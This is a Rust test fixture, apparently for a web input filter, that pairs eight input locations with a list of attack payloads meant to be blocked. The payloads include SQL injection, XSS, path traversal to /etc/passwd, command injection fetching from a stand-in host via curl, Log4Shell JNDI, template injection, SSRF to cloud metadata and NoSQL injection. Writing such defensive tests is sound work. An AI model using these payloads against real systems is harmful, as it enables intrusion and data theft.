//! Attacks that must not come through anywhere.

use super::wire::At;

/// Every place from which an application takes values.
pub(crate) const PLACES: &[At] = &[
    At::Query("q"),
    At::Form("comment"),
    At::Json("text"),
    At::DeepJson("text"),
    At::Field("text"),
    At::Cookie("prefs"),
    At::Xml,
    At::Body("text/plain"),
];

/// The family, and one of its attacks.
pub(crate) const EVERYWHERE: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "-1 UNION SELECT 1,username,password FROM users--"),
    ("sqli", "1 and sleep(5)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("traversal", "php://filter/convert.base64-encode/resource=index.php"),
    ("command", "x|cat /etc/passwd"),
    ("command", "$(curl http://192.0.2.1/x)"),
    ("command", "a && ping -c 4 192.0.2.1"),
    ("code", "<?php system('id'); ?>"),
    ("template", "{{7*7}}"),
    ("template", "${jndi:ldap://192.0.2.1/a}"),
    ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("deserialisation", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "gopher://127.0.0.1:6379/_INFO"),
    ("nosql", "{\"$ne\": null}"),
    ("scanner", "http://c8s7d6.oast.fun/"),
];
